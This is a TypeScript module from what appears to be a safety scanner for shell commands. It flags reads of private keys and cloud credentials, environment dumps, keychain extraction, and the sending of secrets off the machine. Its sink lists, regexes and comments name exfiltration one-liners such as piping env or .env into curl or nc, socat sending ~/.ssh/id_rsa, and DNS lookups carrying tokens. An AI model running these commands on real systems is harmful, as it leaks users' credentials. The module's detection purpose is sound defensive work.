/**
 * Credentials: reading private keys, cloud credentials and secrets files;
 * sending the environment, .env files or credentials off the machine;
 * dumping the OS keychain.
 *
 * @module
 */

import { globMatches } from "./glob.ts";
import { archiveOf, ARCHIVERS, holdsHome } from "./archives.ts";
import { commandsIn } from "./ast_scan.ts";
import {
  credentialGlobOf,
  credentialOf,
  isEnvFile,
  isHistoryFile,
  isUnder,
  PATH_ONLY_PROGRAMS,
  resolvePath,
} from "./paths.ts";
import { type Arg, litArg, type State, type Unit } from "./unit.ts";
import type { Pipe } from "./pipe.ts";
import {
  analyzeCredentialPrinters,
  analyzeSecretEnv,
  exfiltratedSecret,
  isLocalHost,
  secretVarsIn,
  secretVarsPrinted,
  urlHost,
} from "./secret_env.ts";
import { credentialPrinted } from "./token_printers.ts";
import { dumpVarIn, SECRET_FILE } from "./dump_vars.ts";
import { FILE_READERS, isDumper } from "./dumpers.ts";

/** Programs that use credentials without printing them (ssh -i key, kubectl...) or only look at paths. */
const KEY_USERS = new Set([
  ...PATH_ONLY_PROGRAMS,
  "ssh",
  "ssh-add",
  "ssh-keygen",
  "ssh-copy-id",
  "ssh-agent",
  "ssh-keyscan",
  "git",
  "kubectl",
  "helm",
  "k9s",
  "kubectx",
  "kubens",
  "docker",
  "podman",
  "gcloud",
  "gsutil",
  "aws",
  "az",
  "terraform",
  "tofu",
  "eksctl",
  "shred",
  "pushd",
  "ansible",
  "ansible-playbook",
  "mosh",
  "autossh",
  "export",
  "man",
  "lsattr",
  "chattr",
  "setfacl",
  "getfacl",
]);

/** Programs that send data to another machine. */
const SINKS = new Set([
  "curl",
  "wget",
  "nc",
  "ncat",
  "netcat",
  "socat",
  "telnet",
  "ssh",
  "scp",
  "sftp",
  "rsync",
  "ftp",
  "tftp",
  "http",
  "https",
  "xh",
  "openssl",
  "mail",
  "mailx",
  "sendmail",
  "mutt",
  "gh",
  "aws",
  "gsutil",
  "rclone",
  "iwr",
  "irm",
  "invoke-webrequest",
  "invoke-restmethod",
  "s3cmd",
  "az",
  "nslookup",
  "dig",
]);

const SAFE_KEY =
  "keep private keys and credentials on this machine; use ssh-agent forwarding or the tool's own login instead";

/** ps options that take the next word as their value. */
const PS_VALUES =
  /^(-[oOpqCGgUuts]|--(format|pid|ppid|sid|user|group|sort|cols|columns|rows|lines|width))$/;

/**
 * Whether ps is asked for the environment: a BSD-style option cluster (no
 * dash) with `e` in it (`ps e`, `ps auxe`, `ps eww -p 1`). `ps -e` (every
 * process) is not that.
 */
export function psShowsEnvironment(args: readonly string[]): boolean {
  for (let i = 0; i < args.length && i < 64; i++) {
    const t = args[i];
    if (PS_VALUES.test(t)) {
      i++;
      continue;
    }
    if (/^[aAcefhjlLmMnrsStTuvwxXZ]{1,16}$/.test(t) && t.includes("e")) {
      return true;
    }
  }
  return false;
}

/** Search programs: their first operand (or every -e/-f value) is a pattern, not a file. */
const SEARCHERS = new Set([
  "grep",
  "egrep",
  "fgrep",
  "rg",
  "ag",
  "ack",
  "ack-grep",
  "pt",
  "ugrep",
  "zgrep",
  "sift",
  "git-grep",
]);

/** Options of the search programs that take a value (the value is not a pattern or a file). */
const SEARCH_VALUE_OPTS =
  /^(-[ABCmdDg]|--(after-context|before-context|context|max-count|glob|iglob|type|type-add|type-not|include|exclude|exclude-dir|color|colour|max-depth|sort|sortr|threads|encoding|max-filesize|binary-files|label|devices|directories))$/;

/** The arguments of a search that are patterns (`grep -rn id_rsa .`: `id_rsa`). */
function searchPatterns(u: Unit): Set<Arg> {
  const out = new Set<Arg>();
  let explicit = false;
  let first = true;
  for (let i = 0; i < u.args.length; i++) {
    const a = u.args[i];
    const t = a.text;
    if (t === "--") {
      if (!explicit && u.args[i + 1]) out.add(u.args[i + 1]);
      break;
    }
    if (/^(-e|-f|--regexp|--file)$/.test(t)) {
      explicit = true;
      if (u.args[i + 1]) out.add(u.args[i + 1]);
      i++;
      continue;
    }
    if (/^--(regexp|file)=/.test(t) || /^-e./.test(t)) {
      explicit = true;
      out.add(a);
      continue;
    }
    if (SEARCH_VALUE_OPTS.test(t)) {
      i++;
      continue;
    }
    if (t.startsWith("-") && t.length > 1) continue;
    if (!explicit && first) out.add(a);
    first = false;
  }
  return out;
}

/** Patterns that name a secret's field or marker (a search for them prints the secrets). */
const SECRET_FIELD =
  /secret|passw|token|api[_-]?key|access[_-]?key|private[ _-]?key|credential|BEGIN [A-Z ]{0,20}PRIVATE|x-api-key|authorization|bearer/i;

/**
 * Whether a recursive search for a secret's field name covers the whole home
 * or the whole system (`grep -r aws_secret_access_key ~`, `rg -n password /`):
 * every credential file is read and its secret lines are printed.
 */
function searchesSecretsEverywhere(
  u: Unit,
  patterns: Set<Arg>,
  st: State,
): boolean {
  const texts = u.args.map((a) => a.text);
  const recursive = u.name !== "grep" && u.name !== "egrep" &&
      u.name !== "fgrep" && u.name !== "zgrep" ||
    texts.some((t) =>
      /^-[a-zA-Z]{0,8}[rR][a-zA-Z]{0,8}$/.test(t) || t === "--recursive" ||
      t === "--dereference-recursive" || t === "--directories=recurse"
    );
  if (!recursive) return false;
  if (![...patterns].some((a) => SECRET_FIELD.test(a.text))) return false;
  const home = st.ctx.home;
  return u.args.some((a) => {
    if (patterns.has(a) || !a.known || a.text.startsWith("-")) return false;
    const p = resolvePath(a.text, st.cwd, st.ctx.home);
    if (p === null) return false;
    if (
      p === home || p === "/" || p === "/home" || p === "/Users" ||
      p === "/root"
    ) return true;
    // ~/.config, ~/.codex, or a glob over them (~/.c*): folders whose files hold many tools' tokens.
    const cut = p.lastIndexOf("/");
    if (p.slice(0, cut) !== home) return false;
    const last = p.slice(cut + 1);
    return TOKEN_FOLDERS.some((f) =>
      a.glob && /[*?[]/.test(last) ? globMatches(last, f) : last === f
    );
  });
}

/** Folders of the home that hold the tokens of many tools (gh, gcloud, the agents' own logins, docker, kube). */
const TOKEN_FOLDERS = [
  ".config",
  ".codex",
  ".claude",
  ".docker",
  ".kube",
  ".gnupg",
  ".azure",
  ".local",
];

/** Container volume sources: `-v SRC:DST`, `--volume=SRC:DST`, `--mount …,source=SRC`. */
function mountSources(u: Unit): string[] {
  const out: string[] = [];
  const t = u.args.map((a) => a.text);
  for (let i = 0; i < t.length; i++) {
    let v: string | null = null;
    if (t[i] === "-v" || t[i] === "--volume" || t[i] === "--mount") {
      v = t[i + 1] ?? null;
    } else if (/^(--volume|--mount)=/.test(t[i])) {
      v = t[i].slice(t[i].indexOf("=") + 1);
    } else if (/^-v./.test(t[i])) v = t[i].slice(2);
    if (v === null) continue;
    const src = /(?:^|,)(?:source|src)=([^,]{1,4096})/.exec(v);
    if (src) out.push(src[1]);
    else if (v.indexOf(":") > 0) out.push(v.slice(0, v.indexOf(":")));
  }
  return out;
}

/** Credential folders and the images of the tools that own them. */
const OWN_IMAGE: readonly [RegExp, RegExp][] = [
  [/\/\.aws(\/|$)/, /(^|\s|\/)(amazon\/aws-cli|aws-cli|awscli)(:|\s|$)/],
  [/\/\.config\/gcloud(\/|$)/, /(google\/cloud-sdk|cloud-sdk|gcloud)(:|\s|$)/],
  [/\/\.azure(\/|$)/, /(azure-cli|azure\/cli)(:|\s|$)/],
  [/\/\.kube(\/|$)/, /(kubectl|bitnami\/kubectl|helm|k9s)(:|\s|$)/],
];

/** openssl subcommands that print a private key given with -in/-inkey/-key (unless -noout or -pubout). */
function opensslKeyArgs(u: Unit): Arg[] {
  const t = u.args.map((a) => a.text);
  if (
    !/^(rsa|pkey|ec|dsa|pkcs8|pkcs12|enc|base64|x509|req|crl2pkcs7)$/.test(
      t[0] ?? "",
    )
  ) {
    return [];
  }
  if (t.includes("-pubout") || (t.includes("-noout") && !t.includes("-text"))) {
    return [];
  }
  const out: Arg[] = [];
  for (let i = 0; i < t.length; i++) {
    if (/^-(in|inkey|key|signkey)$/.test(t[i]) && u.args[i + 1]) {
      out.push(u.args[i + 1]);
    }
  }
  return out;
}

/** Every unit except key users: arguments and input redirections naming credential files. */
export function analyzeCredentialReads(u: Unit, st: State, pipe?: Pipe): void {
  const m = st.out.matches;
  if (ARCHIVERS.has(u.name)) {
    // zip -r /tmp/h.zip ~: the archive is a copy of the home's credentials.
    const a = archiveOf(u, st);
    if (a.output && a.inputs.some((p) => holdsHome(p, st.ctx.home))) {
      st.out.sensitive.set(a.output, "cred");
    }
  }
  analyzeSecretEnv(u, st, pipe);
  analyzeCredentialPrinters(u, st, pipe);
  if (pipe && pipe.index > 0 && SEARCHERS.has(u.name) || u.name === "awk") {
    // env | grep -i token: the secret variables themselves, printed.
    const prev = pipe?.elements[pipe.index - 1]?.map((r) => r.unit) ?? [];
    const dump = prev.some((p) => isDumper(p.name, p.args.map((a) => a.text)));
    const pat = u.args.map((a) => a.text).filter((x) => !x.startsWith("-"))
      .join(" ");
    if (
      dump && pipe && pipe.index === pipe.elements.length - 1 &&
      /secret|token|passw|api_?key|access_?key|private|credential|auth|aws|github|gh_|openai|anthropic|npm_|stripe|slack/i
        .test(pat) &&
      !u.args.some((a) => /^-[a-zA-Z]{0,4}[cl]$|^--count$/.test(a.text))
    ) {
      m.add(
        "secret_env_read",
        `${u.name} picks the secret variables out of the environment and prints them into the session transcript`,
        'check that a variable is set with [ -n "$NAME" ] instead of printing it',
      );
    }
  }
  if (u.name === "openssl") {
    for (const a of opensslKeyArgs(u)) {
      const p = a.known ? resolvePath(a.text, st.cwd, st.ctx.home) : null;
      const c = p ? credentialOf(p, st.ctx.home, false) : null;
      if (c) {
        m.add(
          c.kind,
          `openssl ${
            u.args[0].text
          } prints ${c.label}: this exposes secret credentials`,
          SAFE_KEY,
        );
      }
    }
  }
  if (u.name === "docker" || u.name === "podman" || u.name === "nerdctl") {
    const image = u.args.map((a) => a.text).join(" ");
    for (const src of mountSources(u)) {
      const p = resolvePath(src, st.cwd, st.ctx.home);
      const c = p ? credentialOf(p, st.ctx.home, true) : null;
      // The credentials' own tool in its official image (amazon/aws-cli with ~/.aws) uses them as on the host.
      if (
        c && p && OWN_IMAGE.some(([dir, img]) => dir.test(p) && img.test(image))
      ) continue;
      if (c) {
        m.add(
          c.kind,
          `${u.name} mounts ${c.label} into a container, where anything can read it`,
          SAFE_KEY,
        );
      }
    }
  }
  for (const r of u.redirects) {
    if ((r.op === "<" || r.op === "<>") && r.target.known) {
      const p = resolvePath(r.target.text, st.cwd, st.ctx.home);
      const c = p ? credentialOf(p, st.ctx.home, false) : null;
      if (c && (!c.readable || SINKS.has(u.name))) {
        if (SINKS.has(u.name)) {
          m.add(
            "credential_exfiltration",
            `${u.name} sends ${c.label} to another machine`,
            SAFE_KEY,
          );
        } else {m.add(
            c.kind,
            `${
              u.name || "a redirection"
            } reads ${c.label}: this exposes secret credentials`,
            SAFE_KEY,
          );}
      }
    }
  }
  // /proc/$$/environ, /proc/$PID/environ, < /proc/$p/environ: any process's
  // environment (arguments first, then input redirections, as before).
  for (const a of u.args) procEnviron(a, u, m);
  for (const r of u.redirects) {
    if (r.op === "<" || r.op === "<>") procEnviron(r.target, u, m);
  }
  if (u.name === "ps" && psShowsEnvironment(u.args.map((a) => a.text))) {
    m.add(
      "system_secrets_read",
      "ps with the e option prints the environment of every process it lists (the agent's API keys and tokens included) into the session transcript",
      "leave out the e option: ps -o pid,cmd or ps aux list processes without their environment",
    );
  }
  if (!u.name || KEY_USERS.has(u.name) || SINKS.has(u.name)) return;
  const patterns = SEARCHERS.has(u.name) ? searchPatterns(u) : null;
  if (patterns && searchesSecretsEverywhere(u, patterns, st)) {
    m.add(
      "secrets_file_read",
      `${u.name} searches every file under ${st.ctx.home}, / or a folder of tool tokens (~/.config, ~/.codex, ~/.claude…) for secret fields: each match prints the secret itself (~/.aws/credentials, ~/.netrc, tokens in dotfiles) into the session transcript`,
      "search the workspace instead (grep -rn NAME .), or check one named, non-secret file",
    );
    return;
  }
  for (const a of u.args) {
    if (!a.known || patterns?.has(a)) continue;
    for (const cand of candidates(a)) {
      const p = resolvePath(cand, st.cwd, st.ctx.home);
      if (p === null) continue;
      let c = credentialOf(p, st.ctx.home, true);
      if (!c && a.glob) {
        const dir = p.slice(0, p.lastIndexOf("/"));
        if (!/\.pub$/.test(p)) c = credentialOf(dir, st.ctx.home, true);
        c ??= credentialGlobOf(p, st.ctx.home);
      }
      if (c?.readable && u.name !== "cp" && u.name !== "install") continue;
      if (c) {
        m.add(
          c.kind,
          `${u.name} reads ${c.label}: this exposes secret credentials`,
          SAFE_KEY,
        );
        if (u.name === "cp" || u.name === "install") {
          const dest = u.args.filter((x) => !x.text.startsWith("-")).pop();
          const d = dest && dest.known
            ? resolvePath(dest.text, st.cwd, st.ctx.home)
            : null;
          if (d) st.out.sensitive.set(d, "cred");
        }
        return;
      }
    }
  }
}

/** An unknown word that reads a process's environment (`/proc/$PID/environ`). */
function procEnviron(a: Arg, u: Unit, m: State["out"]["matches"]): void {
  if (!a.known && /^\/proc\/[^/ ]{1,24}\/environ$/.test(a.text)) {
    m.add(
      "system_secrets_read",
      `${
        u.name || "a command"
      } reads ${a.text}, the environment of a process, secrets included`,
      SAFE_KEY,
    );
  }
}

/** Path candidates in an argument: itself, `--opt=value`, `@file`, `if=file`. */
function candidates(a: Arg): string[] {
  const out: string[] = [];
  for (const t of a.alts) {
    if (t.length > 4096) continue;
    if (t.startsWith("-")) {
      const eq = t.indexOf("=");
      if (eq > 0) out.push(t.slice(eq + 1));
      continue;
    }
    out.push(t);
    if (t.startsWith("@")) out.push(t.slice(1));
    const eq = /^(if|file|path|input)=(.+)$/.exec(t);
    if (eq) out.push(eq[2]);
  }
  return out;
}

/** The files a sink uploads (curl -d @f, -F x=@f, -T f, scp f host:, gh gist create f...). */
function uploads(u: Unit): Arg[] {
  const out: Arg[] = [];
  const args = u.args;
  const file = (a: Arg, text: string): Arg => ({
    ...a,
    text,
    alts: [text],
    prefix: text,
  });
  if (
    u.name === "curl" || u.name === "http" || u.name === "https" ||
    u.name === "xh"
  ) {
    for (let i = 0; i < args.length; i++) {
      const t = args[i].text;
      const long =
        /^--(data|data-binary|data-urlencode|data-ascii|json|form|upload-file|form-string)=(.*)$/s
          .exec(t);
      let opt = t;
      let v: Arg | undefined;
      if (long) {
        opt = "--" + long[1];
        v = file(args[i], long[2]);
      } else if (
        /^(-d|--data|--data-binary|--data-urlencode|--data-ascii|--json|-F|--form|-T|--upload-file)$/
          .test(t)
      ) {
        v = args[++i];
      } else if (/^-[a-zA-Z]{0,11}[dFT]$/.test(t)) {
        // A cluster of switches ending in the data option: -sF x=@f, -fsST f.
        opt = "-" + t.slice(-1);
        v = args[++i];
      } else if (/^-[dFT]./.test(t)) {
        opt = t.slice(0, 2);
        v = file(args[i], t.slice(2));
      } else if (/^[\w.-]{0,64}@/.test(t) && u.name !== "curl") {
        v = file(args[i], t.slice(t.indexOf("@")));
        opt = "-d";
      }
      if (!v) continue;
      if (opt === "-T" || opt === "--upload-file") out.push(v);
      else {
        const at = /(?:^|=|^[\w.-]{1,64})[@<]([^;,]{1,4096})/.exec(v.text);
        if (at) out.push(file(v, at[1]));
      }
    }
  } else if (u.name === "wget") {
    for (let i = 0; i < args.length; i++) {
      const m = /^--(post-file|body-file)(?:=(.*))?$/.exec(args[i].text);
      if (m) out.push(m[2] !== undefined ? file(args[i], m[2]) : args[++i]);
    }
  } else if (
    u.name === "scp" || u.name === "sftp" || u.name === "rsync" ||
    u.name === "rclone" || u.name === "gsutil" || u.name === "s3cmd" ||
    u.name === "aws"
  ) {
    const pos: Arg[] = [];
    for (let i = 0; i < args.length; i++) {
      const t = args[i].text;
      if (
        /^-[iFoPScleJ]$/.test(t) ||
        /^--(rsh|exclude|include|filter|profile|region|port)$/.test(t)
      ) {
        i++;
        continue;
      }
      if (t.startsWith("-")) continue;
      pos.push(args[i]);
    }
    const remote = (t: string) =>
      /^([\w.-]{1,64}@)?[\w.-]{1,255}:(?!\/\/)/.test(t) &&
        !/^[A-Za-z]:[\\/]/.test(t) ||
      /^(s3|gs|rsync|sftp|scp|az|r2):\/\//.test(t);
    if (pos.some((a) => remote(a.text))) {
      for (const a of pos) {
        if (!remote(a.text) && !/^(s3|cp|sync|mv|copy)$/.test(a.text)) {
          out.push(a);
        }
      }
    }
  } else if (u.name === "socat") {
    // socat FILE:~/.ssh/id_rsa TCP:host:port: a file address is read and
    // sent to the other address (OPEN:, GOPEN:, READ: likewise).
    for (const a of args) {
      const m = /^(?:file|open|gopen|read|open-read):([^,]{1,4096})/i.exec(
        a.text,
      );
      if (m) out.push(file(a, m[1]));
    }
  } else if (u.name === "gh") {
    if (args[0]?.text === "gist" && args[1]?.text === "create") {
      for (const a of args.slice(2)) if (!a.text.startsWith("-")) out.push(a);
    }
  } else if (u.name === "mail" || u.name === "mailx" || u.name === "mutt") {
    for (let i = 0; i < args.length; i++) {
      if (args[i].text === "-a" || args[i].text === "-A") out.push(args[++i]);
    }
  }
  for (const r of u.redirects) if (r.op === "<") out.push(r.target);
  return out.filter((a) => a && a.known);
}

function judgeSent(path: string, st: State, how: string): void {
  const m = st.out.matches;
  const p = resolvePath(path, st.cwd, st.ctx.home);
  if (p === null) return;
  const tracked = st.out.sensitive.get(p);
  if (tracked === "env") {
    m.add(
      "env_exfiltration",
      `${how} sends ${p}, which holds a dump of the environment, to another machine`,
      "never send environment variables off the machine",
    );
  } else if (tracked === "repo") {
    m.add(
      "repo_exfiltration",
      `${how} sends ${p}, a bundle of the whole repository, to another machine`,
      "push to the repository's existing remote instead",
    );
  } else if (tracked === "cred") {
    m.add(
      "credential_exfiltration",
      `${how} sends ${p}, a copy of credentials, to another machine`,
      SAFE_KEY,
    );
  } else if (isHistoryFile(p) && isUnder(p, st.ctx.home)) {
    m.add(
      "credential_exfiltration",
      `${how} sends the shell history ${p} (every command typed, with the passwords and tokens given on command lines) to another machine`,
      "never send shell history off the machine",
    );
  } else if (isEnvFile(p)) {
    m.add(
      "env_file_exfiltration",
      `${how} sends the secrets file ${p} to another machine`,
      "share only .env.example with placeholder values",
    );
  } else {
    // ~/.aws/*: a glob inside a credential folder sends the files it lists.
    const glob = /[*?[]/.test(p.slice(p.lastIndexOf("/") + 1)) &&
      !/\.pub$/.test(p);
    const c = credentialOf(p, st.ctx.home, true) ??
      (glob
        ? credentialOf(p.slice(0, p.lastIndexOf("/")), st.ctx.home, true)
        : null);
    if (c) {
      m.add(
        "credential_exfiltration",
        `${how} sends ${c.label} to another machine`,
        SAFE_KEY,
      );
    } else if (holdsHome(p.replace(/\/+$/, "") || "/", st.ctx.home)) {
      m.add(
        "credential_exfiltration",
        `${how} sends ${p}, which holds your whole home folder (SSH keys, cloud logins, tokens), to another machine`,
        "send only the project folder you mean to share",
      );
    }
  }
}

/** Senders that talk to a host over a raw socket: no service reads a token there. */
const RAW_SENDERS = new Set([
  "nc",
  "ncat",
  "netcat",
  "socat",
  "telnet",
  "openssl",
]);
/** Fetchers whose URL names the service at the other end. */
const URL_SENDERS = new Set(["curl", "wget", "http", "https", "xh"]);
/** DNS lookups: a name looked up leaves the machine, whatever answers. */
const DNS_TOOLS = new Set(["dig", "nslookup", "host", "drill", "kdig"]);

/**
 * Where a sender's stdin goes, for a secret variable piped into it: the URL's
 * host for a fetcher, null (no service) for a raw socket or DNS tool that is
 * not local, undefined when the secret stays (a local host, another tool).
 */
function stdinDestination(u: Unit): string | null | undefined {
  if (URL_SENDERS.has(u.name)) return urlHost(u.args) ?? undefined;
  if (RAW_SENDERS.has(u.name) || DNS_TOOLS.has(u.name)) {
    const host = u.args.find((a) => !a.text.startsWith("-") && a.known);
    return host && isLocalHost(host.text) ? undefined : null;
  }
  return undefined;
}

/** Secret variables in the words of a command and in the commands its substitutions run. */
function secretVarsOf(u: Unit): string[] {
  const out = u.args.flatMap((a) => secretVarsIn(a.text));
  for (const a of u.args) {
    for (const s of a.subs) {
      for (const c of commandsIn(s)) {
        out.push(...c.args.flatMap((x) => secretVarsIn(x)));
      }
    }
  }
  return out;
}

/** Network senders: uploaded files, piped-in dumps, substitutions that read secrets. */
export function analyzeSinks(u: Unit, st: State, pipe: Pipe): void {
  const m = st.out.matches;
  // dig $(echo $TOKEN).x.example: the secret is the name looked up.
  if (DNS_TOOLS.has(u.name) || SINKS.has(u.name)) {
    // dig +short $l.x.example inside `for l in $(env | base32)`: the dump goes out a chunk at a time.
    const held = u.args.map((a) => dumpVarIn(a.text, st)).find((x) => x);
    if (held?.[1].startsWith(SECRET_FILE)) {
      m.add(
        "env_file_exfiltration",
        `${u.name} sends $${held[0]}, which holds lines of the secrets file ${
          held[1].slice(SECRET_FILE.length)
        }, to another machine`,
        "share only .env.example with placeholder values",
      );
    } else if (held) {
      m.add(
        "env_exfiltration",
        `${u.name} sends $${held[0]}, which holds the output of ${
          held[1]
        } (every environment variable, secrets included), to another machine`,
        "never send environment variables off the machine",
      );
    }
  }
  if (DNS_TOOLS.has(u.name)) {
    const name = exfiltratedSecret(secretVarsOf(u), null);
    if (name) {
      m.add(
        "credential_exfiltration",
        `${u.name} looks up a name that holds the secret ${name}: DNS carries it off the machine`,
        "never put credentials into host names or lookups",
      );
    }
  }
  if (!SINKS.has(u.name)) return;
  for (const f of uploads(u)) judgeSent(f.text, st, u.name);
  // Substitutions: curl -d "$(env)" / "$(cat .env)".
  for (const a of u.args) {
    for (const s of a.subs) {
      for (const c of commandsIn(s)) {
        if (isDumper(c.name, c.args)) {
          m.add(
            "env_exfiltration",
            `${u.name} sends the output of ${c.name} (every environment variable, secrets included) to another machine`,
            "never send environment variables off the machine",
          );
        } else if (FILE_READERS.has(c.name)) {
          for (const f of c.args) {
            if (!f.startsWith("-")) {
              judgeSent(f, st, `${u.name} with $(${c.name} ${f})`);
            }
          }
        }
      }
    }
  }
  // Pipeline producers: env | curl, cat .env | nc.
  for (let i = 0; i < pipe.index; i++) {
    for (const r of pipe.elements[i]) {
      const p = r.unit;
      const texts = p.args.map((a) => a.text);
      const printedVars = secretVarsPrinted(p.name, texts);
      // A credential handed back to its own CLI (gh auth token | gh secret set) stays with its service.
      const printed = p.name === u.name ? undefined : credentialPrinted(p);
      if (printed) {
        m.add(
          "credential_exfiltration",
          `${p.name} ${
            texts.slice(0, 3).join(" ")
          } | ${u.name} sends ${printed} to another machine`,
          "pipe a credential only into the local tool that needs it (docker login --password-stdin)",
        );
      } else if (printedVars.length > 0) {
        const to = stdinDestination(u);
        const name = to === undefined
          ? undefined
          : exfiltratedSecret(printedVars, to);
        if (name) {
          m.add(
            "credential_exfiltration",
            `${p.name} | ${u.name} sends the secret ${name} to ${
              to ?? "another machine"
            }, which is not the service it belongs to`,
            "send a credential only to its own service, and let the tool's login handle it",
          );
        }
      } else if (isDumper(p.name, texts)) {
        m.add(
          "env_exfiltration",
          `${p.name} | ${u.name} sends every environment variable (secrets included) to another machine`,
          "never send environment variables off the machine",
        );
      } else if (FILE_READERS.has(p.name)) {
        if (ARCHIVERS.has(p.name)) {
          // tar -C ~ -cf - . | nc …: what the archive packs, -C applied.
          for (const f of archiveOf(p, st).inputs.slice(0, 64)) {
            judgeSent(f, st, `${p.name} | ${u.name}`);
          }
        }
        for (const a of ARCHIVERS.has(p.name) ? [] : p.args) {
          if (a.known && !a.text.startsWith("-")) {
            judgeSent(a.text, st, `${p.name} ${a.text} | ${u.name}`);
          }
        }
        for (const rr of p.redirects) {
          if (rr.op === "<" && rr.target.known) {
            judgeSent(rr.target.text, st, `${p.name} | ${u.name}`);
          }
        }
      }
    }
  }
}

/** Environment dumps: to /dev/tcp, or into a file that is uploaded later. */
export function analyzeDumpers(u: Unit, st: State): void {
  // Only output redirections are judged here.
  if (u.redirects.length === 0) return;
  const texts = u.args.map((a) => a.text);
  const dumper = isDumper(u.name, texts);
  const reader = FILE_READERS.has(u.name);
  for (const r of u.redirects) {
    if (!/^>|^&>/.test(r.op) || !r.target.known) continue;
    const t = r.target.text;
    if (/^\/dev\/(tcp|udp)\//.test(t)) {
      const host = t.split("/")[3] ?? "";
      const secret = isLocalHost(host) ? undefined : exfiltratedSecret(
        [...u.args.map((a) => a.text), u.stdin ?? ""].flatMap((x) =>
          secretVarsIn(x)
        ),
        null,
      );
      if (secret) {
        st.out.matches.add(
          "credential_exfiltration",
          `${u.name} > ${t} sends the secret ${secret} over a raw socket to ${host}`,
          "send a credential only to its own service, and let the tool's login handle it",
        );
      }
      if (dumper) {
        st.out.matches.add(
          "env_exfiltration",
          `${u.name} > ${t} sends every environment variable to a remote host`,
          "never send environment variables off the machine",
        );
      } else if (reader) {
        for (const a of u.args) {
          if (a.known && !a.text.startsWith("-")) {
            judgeSent(a.text, st, `${u.name} > ${t}`);
          }
        }
      }
      continue;
    }
    const p = resolvePath(t, st.cwd, st.ctx.home);
    if (!p) continue;
    // gh auth token > t, echo $(gh auth token) > t: the file holds a credential.
    if (credentialPrinted(u) ?? printedBySubs(u)) {
      st.out.sensitive.set(p, "cred");
    }
    if (dumper) st.out.sensitive.set(p, "env");
    else if (reader && u.args.some((a) => a.known && isEnvFile(a.text))) {
      st.out.sensitive.set(p, "env");
    }
  }
}

/** The credential a substitution in the unit's arguments prints (`echo $(gh auth token)`), if any. */
function printedBySubs(u: Unit): string | undefined {
  for (const a of u.args.slice(0, 64)) {
    for (const s of a.subs.slice(0, 8)) {
      for (const c of commandsIn(s, 16)) {
        const what = credentialPrinted({
          name: c.name,
          args: c.args.map(litArg),
          redirects: [],
          stdin: null,
          sudo: false,
          cmd: null,
        });
        if (what) return what;
      }
    }
  }
  return undefined;
}

/** macOS `security` / libsecret password extraction. */
export function analyzeKeychain(u: Unit, st: State): void {
  const t = u.args.map((a) => a.text);
  if (u.name === "security") {
    if (
      t[0] === "dump-keychain" ||
      (/^find-(generic|internet)-password$/.test(t[0] ?? "") &&
        t.some((x) => /^-[a-zA-Z]{0,6}[wg]/.test(x)))
    ) {
      st.out.matches.add(
        "keychain_dump",
        `security ${t[0]} prints passwords stored in the macOS keychain`,
        "let the tool that owns the secret read it itself",
      );
    }
  } else if (
    u.name === "secret-tool" &&
    (t[0] === "lookup" || (t[0] === "search" && t.includes("--all")))
  ) {
    st.out.matches.add(
      "keychain_dump",
      `secret-tool ${t[0]} prints passwords from the desktop keyring`,
    );
  }
}
